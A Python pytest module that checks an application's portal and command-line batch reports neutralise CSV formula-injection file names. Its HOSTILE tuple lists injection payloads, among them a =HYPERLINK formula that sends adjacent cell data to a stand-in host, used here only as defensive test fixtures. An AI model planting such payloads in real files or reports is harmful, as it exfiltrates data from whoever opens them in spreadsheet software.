"""A batch report never carries a formula to the agent's spreadsheet software (issue 9,
finding 13).

The attacker names the files so that a report cell would start a formula (OWASP, CSV
injection): ``=HYPERLINK(…)`` to exfiltrate the neighbouring cells, ``@``, ``+``, ``-``, a tab or
a carriage return in front. The reports are read back the way Excel reads them.
"""

from __future__ import annotations

import csv
import io
import time
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from egide.cli import main
from egide.spreadsheets import FORMULA_STARTS, safe_cell
from egide.tasks.batch import REPORT_NAME
from tests.support.portal import PortalHarness, csrf_of

HOSTILE = (
    '=HYPERLINK("http://exemple.invalid/?d="&A2;"Ouvrir").txt',
    "=HYPERLINK(A2;A3).txt",
    "+SOMME(1;2).txt",
    "-2+3.txt",
    "@SOMME(A1).txt",
    "\t=1+1.txt",
    "\r=1+1.txt",
    " =1+1.txt",
    "\uff1d1+1.txt",  # full-width "=", folded by some software
)
# A browser's multipart form escapes a tab, a carriage return or a quote in a file name, and the
# portal keeps what follows the last "/".
THROUGH_A_FORM = tuple(n for n in HOSTILE if n[0] not in "\t\r" and not {'"', "/"} & set(n))
TEXT = "Le service instructeur a reçu la demande et la traitera sous huit jours."


def _cells(report: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(report.lstrip("\ufeff")), delimiter=";"))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell or cell[0] not in FORMULA_STARTS, row
            assert cell.lstrip(" ")[:1] not in FORMULA_STARTS, row


def _wait(client: TestClient, path: str, timeout_s: float = 120) -> None:
    deadline = time.monotonic() + timeout_s
    while time.monotonic() < deadline:
        if client.get(path + "/etat").json()["finished"]:
            return
        time.sleep(0.1)
    raise AssertionError(f"le lot {path} ne s'est pas terminé")


def test_the_portal_report_neutralises_hostile_file_names(harness_: PortalHarness) -> None:
    client = harness_.client()
    harness_.first_sign_in(client, harness_.add_user("cmartin"))
    page = client.get("/espace/lots")
    created = client.post(
        "/espace/lots/resumes",
        data={"csrf_token": csrf_of(page), "length": "court"},
        files=[("documents", (name, TEXT.encode(), "text/plain")) for name in THROUGH_A_FORM],
    )
    path = created.url.path
    _wait(client, path)
    page = client.get(path)
    client.post(path + "/lancer", data={"csrf_token": csrf_of(page), "modele": "auto"})
    _wait(client, path)
    rows = _cells(client.get(path + "/rapport.csv").text)
    _no_formula(rows)
    labels = [row[0] for row in rows[1:]]
    # Each name is still there, whole, for its owner to read.
    assert sorted(labels) == sorted("'" + name for name in THROUGH_A_FORM)


def test_the_command_line_report_neutralises_hostile_file_names(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    folder = tmp_path / "courriers"
    folder.mkdir()
    names = [name for name in HOSTILE if "/" not in name]
    for name in names:
        (folder / name).write_text(TEXT, encoding="utf-8")
    status = main(["batch", "summarize", str(folder), "--out", str(tmp_path / "sortie")])
    assert status == 0
    rows = _cells((tmp_path / "sortie" / REPORT_NAME).read_bytes().decode("utf-8"))
    _no_formula(rows)
    assert sorted(row[0] for row in rows[1:]) == sorted("'" + name for name in names)
    # The output file name column names them too, neutralised.
    assert all(row[3].startswith("'") for row in rows[1:])


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+33 6 00 00 00 00", "'+33 6 00 00 00 00"),
        ("-5", "'-5"),
        ("@SOMME(A1)", "'@SOMME(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1", "'  =1"),
        ("\uff20x", "'\uff20x"),
        ("ligne 12", "ligne 12"),
        ("a=b", "a=b"),
        ("refusé — 1 NIR", "refusé — 1 NIR"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(value: str | None, cell: str) -> None:
    assert safe_cell(value) == cell


@pytest.fixture
def harness_(tmp_path: Path) -> PortalHarness:
    from egide.config import load_settings

    return PortalHarness(load_settings(environ={"EGIDE_HOME": str(tmp_path / "home")}))
